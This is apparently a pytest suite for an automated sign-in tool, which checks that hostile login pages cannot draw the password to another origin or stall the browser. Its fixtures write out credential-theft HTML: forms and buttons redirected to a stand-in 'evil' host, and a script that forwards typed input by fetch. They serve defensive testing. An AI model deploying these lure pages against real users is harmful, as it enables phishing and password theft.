"""Pages that mean harm: what they get of the password, and how often it is sent."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from hostile import Answer, Asked, Hostile
from parent import Outcome, Spawned, job_for

NO = "<p role=alert>That is not right</p>"


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    with Hostile() as running:
        yield running


def sign_in(hostile: Hostile, **changes: Any) -> Outcome:
    return Spawned(job_for(hostile, **{"totp": None, "timeout_s": 30.0, **changes})).run()  # type: ignore[arg-type]


def form(
    *, to: str = "/in", on_form: str = "", on_user: str = "", on_password: str = "",
    buttons: str = "<button>Sign in</button>", more: str = "",
) -> str:  # fmt: skip
    return f"""<h1>Sign in</h1><form id=f method=post action="{to}" {on_form}>
    <label>User <input id=u name=u autocomplete=username {on_user}></label>
    <label>Password <input id=p name=p type=password {on_password}></label>{buttons}</form>{more}"""


def refusing(page: Callable[[bool], str]) -> Callable[[Asked], str]:
    """The same page again after each answer."""
    return lambda asked: page(asked.method == "POST")


def test_an_honest_page_of_the_same_server_works(hostile: Hostile) -> None:
    hostile.pages["login /"] = form()
    outcome = sign_in(hostile)
    assert outcome.error is None, outcome.result
    assert len(hostile.held(hostile.password)) == 1


def evil_form(hostile: Hostile) -> str:
    return f'<form id=e method=post action="{hostile.evil}/take"></form>'


def script(code: str) -> str:
    return f"<script>{code}</script>"


# name → the page.  None may bring one byte of the password to another origin.
LURES: dict[str, Callable[[Hostile], str]] = {
    "a form that sends elsewhere": lambda h: form(to=h.evil + "/take"),
    "a base elsewhere": lambda h: f"<base href='{h.evil}/'>" + form(to="take"),
    "an address that is none": lambda h: form(to="http://["),
    "a button that sends elsewhere": lambda h: form(
        buttons=f"<button formaction='{h.evil}/take'>Sign in</button>"
    ),
    "Enter that presses a button that sends elsewhere": lambda h: form(
        buttons=f"<button formaction='{h.evil}/take'>Forgot password?</button>"
    ),
    "Enter that presses a hidden button": lambda h: form(
        buttons=f"<button hidden formaction='{h.evil}/take'>x</button>"
        "<button disabled>Sign in</button>"
    ),
    "a form that turns away while the name is typed": lambda h: form(
        on_user=f"oninput=\"f.action='{h.evil}/take'\""
    ),
    "a form that turns away while the password is typed": lambda h: form(
        on_password=f"oninput=\"f.action='{h.evil}/take'\""
    ),
    "a field that moves to another form": lambda h: form(
        on_user="oninput=\"p.setAttribute('form', 'e')\"", more=evil_form(h)
    ),
    "a button that turns away": lambda h: form(
        buttons="<button id=b>Sign in</button>",
        on_user=f"oninput=\"b.setAttribute('formaction', '{h.evil}/take')\"",
    ),
    "a frame that takes the focus": lambda h: form(
        more=f"<iframe src='{h.evil}/' width=300 height=80></iframe>"
    ),
    "a frame of another origin": lambda h: f"<iframe src='{h.evil}/form' width=600 height=500>",
    "a document without an address": lambda h: (
        f'<h1>x</h1><iframe width=600 height=500 srcdoc="{form().replace(chr(34), "")}"></iframe>'
    ),
    "a sandbox that denies itself": lambda h: (
        "<iframe width=600 height=500 sandbox='allow-forms allow-scripts' src=/sandbox></iframe>"
    ),
    "a page that goes on while it is typed into": lambda h: form(
        on_password=f"onfocus=\"location='{h.evil}/form'\""
    ),
    "a new account": lambda h: form(
        to=h.identity + "/take", buttons="<button>Create account</button>"
    ).replace("<h1>Sign in</h1>", "<h1>Create your account</h1>"),
    "a new account with a neutral button": lambda h: form(
        to=h.identity + "/take", buttons="<button>Continue</button>"
    ).replace("<h1>Sign in</h1>", "<h1>Sign up</h1>"),
    "a field that becomes readable": lambda h: form(on_password="onfocus=\"this.type='text'\""),
    "a field that can hardly be seen": lambda h: form(
        to=h.identity + "/take", on_password="style='opacity:0.01'"
    ),
    "a field behind a filter": lambda h: form(
        to=h.identity + "/take", on_password="style='filter:opacity(0)'"
    ),
    "a page that is covered": lambda h: form(
        more="<div style='position:fixed;inset:0;background:#fff'></div>"
    ),
}


@pytest.mark.parametrize("lure", LURES)
def test_no_byte_of_the_password_goes_astray(hostile: Hostile, lure: str) -> None:
    hostile.pages["login /"] = LURES[lure](hostile)
    hostile.pages["login /sandbox"] = script(f"self.origin = '{hostile.identity}'") + form()
    hostile.pages["evil /form"] = form()
    hostile.pages["evil /"] = "<input id=i autofocus>" + script(
        "setInterval(() => { i.focus(); if (i.value) fetch('/take?' + i.value) }, 1)"
    )
    outcome = sign_in(hostile, timeout_s=12.0)
    assert hostile.held("c4n4ry", "evil") == []
    assert not [one for one in hostile.asked if one.path == "/take" and one.holds("c4n4ry")]
    assert hostile.password not in outcome.raw.decode()
    assert hostile.asked, "nothing was tried"


def test_a_frame_that_takes_the_focus_does_not_even_hinder(hostile: Hostile) -> None:
    hostile.pages["login /"] = LURES["a frame that takes the focus"](hostile)
    hostile.pages["evil /"] = "<input id=i>" + script("setInterval(() => i.focus(), 1)")
    assert sign_in(hostile).error is None


@pytest.mark.parametrize("around", ["login", "knoq"])
def test_a_provider_in_a_frame_of_ours_is_answered(hostile: Hostile, around: str) -> None:
    hostile.pages["login /form"] = form(on_form="target=_top")
    frame = f"<iframe src='{hostile.identity}/form' width=600 height=500></iframe>"
    hostile.pages["login /"] = frame if around == "login" else hostile.go(hostile.site + "/frame")
    hostile.pages["knoq /frame"] = frame
    assert sign_in(hostile).error is None


def test_a_provider_in_a_strangers_frame_gets_nothing(hostile: Hostile) -> None:
    hostile.pages["login /"] = hostile.go(hostile.evil + "/frame")
    hostile.pages["login /form"] = form(on_form="target=_top")
    hostile.pages["evil /frame"] = (
        f"<iframe src='{hostile.identity}/form' width=600 height=500></iframe>"
    )
    outcome = sign_in(hostile)
    assert outcome.error is not None and outcome.error.code == "origin_not_allowed"
    assert hostile.held(hostile.password) == [] and outcome.submits == []


# name → the page before the answer and after it.  Each gets the password once.
PREFILLED = form(on_user='readonly value="ada@acme.example"')
NAGS: dict[str, Callable[[bool], str]] = {
    "sends itself at the last letter": lambda said: form(
        to="/", on_password='oninput="f.submit()"', more=NO * said
    ),
    "hangs while it sends": lambda said: form(
        to="/",
        on_form='onsubmit="for (const t = Date.now(); Date.now() - t < 4000;);"',
        more=NO * said,
    ),
    "shows the name, and asks for it afterwards": lambda said: (
        form(to="/", more=NO) if said else PREFILLED.replace("/in", "/")
    ),
    "loads a picture for ever": lambda said: form(to="/", more="<img src=/slow>" + NO * said),
    "shows how far it is": lambda said: form(
        to="/", more="<p role=progressbar style='width:9em'>Step 1 of 2</p>" + NO * said
    ),
    "asks its server all the time": lambda said: form(
        to="/", more=script("(async () => { for (;;) await fetch('/poll') })()") + NO * said
    ),
}


@pytest.mark.parametrize("nag", NAGS)
def test_a_refused_password_is_sent_once_to_a_page_that(hostile: Hostile, nag: str) -> None:
    hostile.pages["login /"] = refusing(NAGS[nag])
    hostile.pages["login /slow"] = lambda asked: (time.sleep(20), "")[1]
    hostile.pages["login /poll"] = lambda asked: (time.sleep(0.2), "")[1]
    outcome = sign_in(hostile)
    assert outcome.error is not None and outcome.error.code == "credentials_rejected"
    assert outcome.result["stage"] == "answered"
    assert len(outcome.submits) == len(hostile.held(hostile.password)) == 1


def test_a_button_that_wakes_up_late_is_pressed_and_not_the_one_that_enter_presses(
    hostile: Hostile,
) -> None:
    hostile.pages["login /"] = form(
        on_password='oninput="b.disabled = false"',
        buttons="<button formaction=/wrong>Forgot password?</button>"
        "<button id=b disabled>Sign in</button>",
    )
    assert sign_in(hostile).error is None
    assert not [one for one in hostile.asked if one.path == "/wrong"]


@pytest.mark.parametrize("where", ["words", "path", "host", "user info"])
def test_a_page_that_echoes_the_password_is_not_quoted(hostile: Hostile, where: str) -> None:
    said, port = hostile.password, hostile.port
    echo = f"<h1>Hello {said}</h1><button>{said}</button>"
    to = {
        "words": "/echo",
        "path": f"/{said}",
        "host": f"http://{said}.localhost:{port}/",
        "user info": f"http://x:{said}@evil.localhost:{port}/form",
    }[where]
    hostile.pages |= {
        "login /": form(), "login /echo": echo, f"login /{said}": echo, "evil /form": form(),
        "login /in": hostile.go(to), f"{said} /": form(), f"{said.lower()} /": form(),
    }  # fmt: skip
    outcome = sign_in(hostile)
    assert outcome.error is not None
    assert said.lower() not in outcome.raw.decode().lower()
    assert outcome.stderr == b""


CLOBBERED = ("inert", "innerText")


def test_names_that_shadow_properties_blind_nobody(hostile: Hostile) -> None:
    odd = "".join(f"<input type=hidden name={one}>" for one in CLOBBERED)
    names = ("title", "forms", "readyState")
    hostile.pages["login /"] = form(
        buttons=odd + "<button>Sign in</button>",
        more="".join(f"<form name={one}></form>" for one in names),
    )
    assert sign_in(hostile).error is None


# name → a page that would keep a browser busy for ever; all of them sign in nevertheless.
RESTLESS: dict[str, str] = {
    "asks before it is left": form(more=script("onbeforeunload = (e) => e.preventDefault()")),
    "alerts": form(more=script("alert(1); setTimeout(() => { alert(2); alert(3) }, 200)")),
    "closes itself": form(more=script("close()")),
    "prints": form(more=script("print(); print()")),
    "is big": form(more="<div><b>x</b></div>" * 20_000),
}


@pytest.mark.parametrize("page", RESTLESS)
def test_a_sign_in_comes_through_a_page_that(hostile: Hostile, page: str) -> None:
    hostile.pages["login /"] = RESTLESS[page]
    outcome = sign_in(hostile, timeout_s=60.0)
    assert outcome.error is None, outcome.result


# name → the page, and the errors that may end it.
ENDLESS: dict[str, tuple[str | Answer, set[str]]] = {
    "loads itself again": (script("location.reload()"), {"timed_out", "page_not_recognised"}),
    "counts for ever": (form(more=script("for (;;);")), {"timed_out"}),
    "is a file": (
        Answer("x", 200, (("Content-Disposition", "attachment; filename=x.bin"),)),
        {"site_down", "identity_provider_down", "page_not_recognised"},
    ),
    "wants a password of the browser": (
        Answer("<h1>401</h1>", 401, (("WWW-Authenticate", "Basic realm=x"),)),
        {"page_not_recognised", "site_down", "identity_provider_down"},
    ),
    "leads in a circle": (
        Answer("", 303, (("Location", "/"),)),
        {"identity_provider_down"},
    ),
}  # fmt: skip


@pytest.mark.parametrize("page", ENDLESS)
def test_an_end_is_made_with_a_page_that(hostile: Hostile, page: str) -> None:
    hostile.pages["login /"], errors = ENDLESS[page]
    outcome = sign_in(hostile, timeout_s=10.0)
    assert outcome.error is not None and outcome.error.code in errors, outcome.result
    assert outcome.took_s < 12 and outcome.stderr == b""
    assert hostile.held(hostile.password) == []


def test_a_page_that_hangs_for_ever_is_told_before_the_time_is_up(hostile: Hostile) -> None:
    hostile.pages["login /"] = form(to="/", on_form='onsubmit="for (;;);"')
    outcome = sign_in(hostile, timeout_s=60.0)
    assert outcome.error is not None and outcome.error.code == "browser_failed"
    assert "hangs" in outcome.error.message and outcome.error.hint
    assert outcome.result["stage"] == "after_submit"
    assert outcome.took_s < 25 and len(outcome.submits) == 1
